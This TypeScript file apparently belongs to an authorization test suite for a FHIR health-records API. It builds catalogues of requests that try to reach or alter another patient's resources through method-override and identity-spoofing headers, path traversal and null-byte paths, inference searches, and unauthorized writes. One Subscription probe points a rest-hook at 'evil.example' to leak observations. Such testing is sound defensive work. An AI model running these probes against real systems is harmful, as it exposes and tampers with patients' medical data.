/** One thing to try at the FHIR endpoint with an id that is another's. `kind` groups it in the report. */
export type Trick = { readonly kind: string; readonly way: string; readonly method: string; readonly path: string; readonly body?: unknown; readonly headers?: Readonly<Record<string, string>> };

const patch = 'application/json-patch+json';

/**
 * What can be tried with one resource. Asked with another's id and with one that does not exist, both must be answered
 * alike: every trick here is a pair.
 */
export function tricksOn(type: string, id: string): readonly Trick[] {
  const at = `/fhir/${type}/${id}`;
  const one = (kind: string, way: string, method: string, path: string, more: Pick<Trick, 'body' | 'headers'> = {}): Trick => ({ kind, way, method, path, ...more });
  const body = { resourceType: type, id };
  const bundle = (kind: string, request: object, resource?: object) => ({ resourceType: 'Bundle', type: kind, entry: [{ request, ...(resource ? { resource } : {}) }] });
  const tests = [{ op: 'test', path: '/status', value: 'final' }];
  return [
    one('instance', 'read', 'GET', at), one('instance', 'HEAD', 'HEAD', at), one('instance', 'delete', 'DELETE', at),
    one('instance', 'update', 'PUT', at, { body }), one('instance', 'update with return=representation', 'PUT', at, { body, headers: { prefer: 'return=representation' } }),
    one('instance', 'JSON Patch that does nothing', 'PATCH', at, { body: [], headers: { 'content-type': patch } }),
    one('history', 'of the instance', 'GET', `${at}/_history`), one('history', 'one version', 'GET', `${at}/_history/1`),
    ...['read?_elements=id', 'read?_summary=true', 'read?_summary=text', 'read?_format=json'].map((way) => one('shape', way, 'GET', `${at}?${way.split('?')[1]}`)),
    one('probe', 'If-Match', 'PUT', at, { body, headers: { 'if-match': 'W/"99"' } }), one('probe', 'If-None-Match', 'GET', at, { headers: { 'if-none-match': 'W/"1"' } }),
    one('probe', 'If-Modified-Since', 'GET', at, { headers: { 'if-modified-since': 'Fri, 01 Jan 2100 00:00:00 GMT' } }),
    one('probe', 'PATCH that tests a value', 'PATCH', at, { body: tests, headers: { 'content-type': patch } }), one('probe', 'PATCH that is none', 'PATCH', at, { body: '{', headers: { 'content-type': patch } }),
    one('probe', 'FHIRPath Patch', 'PATCH', at, { body: { resourceType: 'Parameters', parameter: [{ name: 'operation', part: [{ name: 'type', valueCode: 'delete' }, { name: 'path', valueString: `${type}.meta` }] }] } }),
    one('probe', 'If-None-Exist', 'POST', `/fhir/${type}`, { body: { resourceType: type, nonsense: 1 }, headers: { 'if-none-exist': `_id=${id}` } }),
    ...['PUT', 'PATCH', 'DELETE'].map((method) => one('probe', `${method} by condition`, method, `/fhir/${type}?_id=${id}`, method === 'DELETE' ? {} : { body: method === 'PATCH' ? tests : { resourceType: type, nonsense: 1 }, headers: { 'content-type': method === 'PATCH' ? patch : 'application/fhir+json' } })),
    ...['', '&_summary=count', '&_total=accurate', '&_count=1', '&_count=0', '&_elements=id', '&_include=*', '&_include:iterate=*', '&_revinclude=Provenance:target', '&_sort=_lastUpdated', '&_filter=id eq x', '&_contained=both', '&_security=x', '&_query=x'].map((query) => one('search', `_id${query}`, 'GET', `/fhir/${type}?_id=${id}${query.replaceAll(' ', '%20')}`)),
    one('search', 'POST _search', 'POST', `/fhir/${type}/_search`, { body: `_id=${id}`, headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
    one('search', 'of all types', 'GET', `/fhir?_type=${type}&_id=${id}`),
    ...['$validate', '$graphql?query=%7Bid%7D', '$everything', '$summary', '$export', '$nonsense'].map((operation) => one('operation', operation.split('?')[0] ?? '', 'GET', `${at}/${operation}`)),
    one('operation', '$graphql by id', 'POST', '/fhir/$graphql', { body: { query: `{ x: ${type}(id: "${id}") { id } }` }, headers: { 'content-type': 'application/json' } }),
    one('operation', '$graphql by list', 'POST', '/fhir/$graphql', { body: { query: `{ x: ${type}List(_id: "${id}") { id } }` }, headers: { 'content-type': 'application/json' } }),
    ...(['GET', 'PUT', 'DELETE', 'PATCH'] as const).flatMap((method) => ['batch', 'transaction'].map((kind) => one('bundle', `${kind} ${method}`, 'POST', '/fhir', { body: bundle(kind, { method, url: `${type}/${id}` }, method === 'PUT' ? body : method === 'PATCH' ? { resourceType: 'Binary', contentType: patch, data: Buffer.from(JSON.stringify(tests)).toString('base64') } : undefined) }))),
    one('bundle', 'conditional reference', 'POST', '/fhir', { body: bundle('transaction', { method: 'POST', url: 'Basic' }, { resourceType: 'Basic', code: { text: 'x' }, subject: { reference: `${type}?_id=${id}` } }) }),
    one('bundle', 'ifNoneExist', 'POST', '/fhir', { body: bundle('transaction', { method: 'POST', url: type, ifNoneExist: `_id=${id}` }, { resourceType: type, nonsense: 1 }) }),
    one('bundle', 'a Bundle in a Bundle', 'POST', '/fhir', { body: bundle('batch', { method: 'POST', url: '/' }, bundle('batch', { method: 'GET', url: `${type}/${id}` })) }),
    ...['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'].map((header) => one('method', header, 'POST', at, { headers: { [header]: 'GET' } })),
    one('method', 'GET with a body', 'GET', at, { body: { resourceType: type } }), one('method', 'TRACE-like verb', 'OPTIONS', at), one('method', '_method', 'POST', `${at}?_method=GET`),
    ...['//', '/./', '/%2e/', '/..%2f..%2f'].map((way) => one('path', way, 'GET', `/fhir/${type}${way}${id}`)), one('path', 'upper case', 'GET', `/fhir/${type.toUpperCase()}/${id}`), one('path', 'zero byte', 'GET', `${at}%00`),
    ...['X-Original-URL', 'X-Rewrite-URL', 'X-Forwarded-Path'].map((header) => one('path', header, 'GET', '/fhir/metadata', { headers: { [header]: at } })),
    ...['X-User', 'X-Roles', 'X-Forwarded-User', 'X-Amzn-Oidc-Data', 'X-Tenant'].map((header) => one('header', header, 'GET', at, { headers: { [header]: 'system' } })),
    one('header', 'two tokens', 'GET', `${at}?access_token=x`),
  ];
}

/** What can be tried with a patient: chains, reverse chains, compartments, operations, writing into the record. */
export function tricksOnRecord(patient: string, number: string): readonly Trick[] {
  const reference = { reference: `Patient/${patient}` };
  const one = (kind: string, way: string, method: string, path: string, more: Pick<Trick, 'body' | 'headers'> = {}): Trick => ({ kind, way, method, path, ...more });
  const observation = { resourceType: 'Observation', status: 'final', code: { text: 'x' }, subject: reference };
  const post = (way: string, resource: { readonly resourceType: string }, headers: Record<string, string> = { prefer: 'return=representation' }) => one('write into the record', way, 'POST', `/fhir/${resource.resourceType}`, { body: resource, headers });
  return [
    ...['Observation', 'Condition', 'Task', 'Encounter', 'DocumentReference', 'Communication', 'Consent', 'Coverage', 'RelatedPerson', 'Media', 'Provenance', 'AuditEvent', 'Appointment', 'ServiceRequest'].flatMap((type) => {
      const by = type === 'Coverage' ? 'beneficiary' : ['Media', 'Observation', 'Condition'].includes(type) ? 'subject' : 'patient';
      return [one('search', `${type}?${by}`, 'GET', `/fhir/${type}?${by}=Patient/${patient}&_count=1`), one('compartment', type, 'GET', `/fhir/Patient/${patient}/${type}`)];
    }),
    one('compartment', '*', 'GET', `/fhir/Patient/${patient}/*`), one('compartment', '_search', 'POST', `/fhir/Patient/${patient}/Observation/_search`, { body: '', headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
    ...['subject:Patient.identifier', 'patient.identifier', 'subject.identifier'].map((chain) => one('infer', `chain ${chain}`, 'GET', `/fhir/Observation?${chain}=${number}`)),
    one('infer', '_has', 'GET', `/fhir/Organization?_has:Patient:organization:identifier=${number}`), one('infer', '_has of _has', 'GET', `/fhir/Organization?_has:Patient:organization:_has:Observation:patient:code=8480-6&_has:Patient:organization:_id=${patient}`),
    one('infer', 'identifier count', 'GET', `/fhir/Patient?identifier=${number}&_summary=count`), one('infer', 'general practitioner', 'GET', `/fhir/Practitioner?_has:Task:owner:patient=${patient}`),
    one('infer', 'Slot of the appointment', 'GET', `/fhir/Slot?_has:Appointment:slot:patient=${patient}`), one('infer', '_sort by what is hidden', 'GET', `/fhir/Observation?patient=${patient}&_sort=-date`),
    one('infer', '_lastUpdated', 'GET', `/fhir/Patient?_id=${patient}&_lastUpdated=gt2020`), one('infer', '$summary by identifier', 'GET', `/fhir/Patient/$summary?identifier=${number}`),
    one('infer', 'Subscription as an oracle', 'POST', '/fhir/Subscription', { body: { resourceType: 'Subscription', status: 'requested', reason: 'x', criteria: `Observation?patient=${patient}`, channel: { type: 'rest-hook', endpoint: 'https://evil.example' } } }),
    one('infer', '_typeFilter of an export', 'GET', `/fhir/Patient/$export?_type=Observation&_typeFilter=Observation?patient=${patient}`),
    one('infer', '_revinclude through the Organization', 'GET', `/fhir/Organization?_has:Patient:organization:_id=${patient}&_revinclude=Patient:organization&_revinclude:iterate=Observation:patient`),
    post('plain', observation), post('with a contained Patient', { ...observation, contained: [{ resourceType: 'Patient', id: 'p' }], subject: { reference: '#p' }, performer: [reference] } as never),
    post('a reference that is a search', { ...observation, subject: { reference: `Patient?identifier=${number}` } } as never), post('an absolute reference', { ...observation, subject: { reference: `http://127.0.0.1/fhir/Patient/${patient}` } } as never),
    post('a versioned reference', { ...observation, subject: { reference: `Patient/${patient}/_history/1` } } as never), post('a Consent', { resourceType: 'Consent', status: 'active', patient: reference } as never), post('a RelatedPerson', { resourceType: 'RelatedPerson', patient: reference } as never),
    post('a Task for oneself', { resourceType: 'Task', status: 'accepted', intent: 'order', for: reference } as never), post('an EpisodeOfCare', { resourceType: 'EpisodeOfCare', status: 'active', patient: reference } as never), post('an AuditEvent', { resourceType: 'AuditEvent', recorded: '2026-01-01T00:00:00Z' } as never),
    post('a Binary', { resourceType: 'Binary', contentType: 'text/plain', data: 'eA==', securityContext: reference } as never), post('a Group to export', { resourceType: 'Group', type: 'person', actual: true, member: [{ entity: reference }] } as never), post('a Person that links', { resourceType: 'Person', link: [{ target: reference }] } as never),
    post('a signature', { resourceType: 'Provenance', target: [reference], recorded: '2026-01-01T00:00:00Z', agent: [{ who: reference }] } as never), post('a document', { resourceType: 'DocumentReference', status: 'current', subject: reference, content: [{ attachment: { url: 'Binary/x' } }] } as never),
  ];
}
